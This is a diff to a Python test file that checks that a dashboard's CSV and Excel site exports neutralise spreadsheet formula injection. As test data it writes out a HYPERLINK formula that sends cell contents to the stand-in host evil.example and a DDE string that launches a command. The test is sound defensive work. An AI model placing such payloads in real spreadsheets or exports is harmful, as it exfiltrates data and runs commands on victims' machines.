@@ -14,7 +14,7 @@ import json
 
 import pytest
 from sqlalchemy import inspect as sa_inspect
-from sqlalchemy import text
+from sqlalchemy import select, text
 
 from dashboard.store.db import engine_for, session_scope
 from tests.conftest import TEST_PASSWORDS
@@ -216,21 +216,24 @@ def test_crafted_values_in_every_callback_never_give_a_500(demo, user):
 
 
 def test_the_sites_page_downloads_never_carry_a_live_formula(demo):
-    """The grid's rows come back from the browser, so a crafted name reaches the file: it must
-    arrive as text, not as a formula Excel would run."""
+    """A site's name and address are whatever someone typed or uploaded, so a crafted one reaches
+    the file: it must arrive as text, not as a formula Excel would run."""
     import io
 
     from openpyxl import load_workbook
 
-    app, _settings = demo
+    from dashboard.store.models import Site
+
+    app, settings = demo
+    attack = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
+    with session_scope(settings.database_url) as session:
+        site = session.scalars(select(Site).order_by(Site.id).limit(1)).one()
+        site.name, site.address, code = attack, "+cmd|' /C calc'!A0", site.code
     client = app.server.test_client()
     log_in(client, "viewer", TEST_PASSWORDS["viewer"])
-    attack = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
-    rows = [{"code": "GD-0001", "name": attack, "township": "@SUM(1+1)", "rate": -0.5,
-             "address": "+cmd|' /C calc'!A0"}]
     for button, suffix in (("sites-export-csv", ".csv"), ("sites-export-xlsx", ".xlsx")):
         response = call(client, app, "sites-download.data",
-                        {f"{button}.n_clicks": 1, "sites-grid.virtualRowData": rows}, changed=[f"{button}.n_clicks"])
+                        {f"{button}.n_clicks": 1, "sites-search.value": code}, changed=[f"{button}.n_clicks"])
         sent = response.get_json()["response"]["sites-download"]["data"]
         assert sent["filename"].endswith(suffix) and sent["base64"]
         content = base64.b64decode(sent["content"])
